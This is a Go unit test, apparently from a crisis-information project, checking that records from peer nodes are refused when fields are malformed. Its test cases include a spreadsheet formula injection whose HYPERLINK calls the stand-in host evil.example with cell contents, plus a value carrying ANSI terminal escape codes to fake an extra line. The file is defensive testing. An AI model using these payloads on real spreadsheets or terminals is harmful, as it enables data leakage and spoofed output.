@@ -1,0 +1,32 @@
+package peerclient
+
+import (
+	"strings"
+	"testing"
+
+	pb "github.com/knooppunt/knooppunt/proto/knooppunt/v1"
+)
+
+// TestCheckSharedHoldsPeersToTheRulesOfOwnRecords: a peer's record must have a kind's name, a
+// crisis name and a region as an own record must; a region that is a spreadsheet formula, or a
+// "VR09" with a newline that would show as a second VR09 in the picture, is dropped.
+func TestCheckSharedHoldsPeersToTheRulesOfOwnRecords(t *testing.T) {
+	const origin = "lcvs.crisis.test"
+	rec := func(kind, crisis, region string) *pb.SharedRecord {
+		return &pb.SharedRecord{Record: &pb.Record{Id: "s1", Origin: origin, Kind: kind, Crisis: crisis, Region: region, Body: []byte(`{}`)}}
+	}
+	if err := CheckShared(origin, rec("water.level", "hoogwater", "VR08")); err != nil {
+		t.Fatalf("a record of a kind this node need not know: %v", err)
+	}
+	for _, c := range []struct{ kind, crisis, region, field string }{
+		{"shelter.capacity", "oekraine", `=HYPERLINK("http://evil.example/x?"&C2,"Zie details")`, "record.region"},
+		{"shelter.capacity", "oekraine", "VR09\n\x1b[1A\x1b[2K", "record.region"},
+		{"shelter.capacity", "Oekraine\r", "VR09", "record.crisis"},
+		{"Shelter Capacity", "oekraine", "VR09", "record.kind"},
+	} {
+		err := CheckShared(origin, rec(c.kind, c.crisis, c.region))
+		if err == nil || !strings.Contains(err.Error(), c.field+": ") {
+			t.Errorf("kind %q crisis %q region %q: %v, want a refusal naming %s", c.kind, c.crisis, c.region, err, c.field)
+		}
+	}
+}
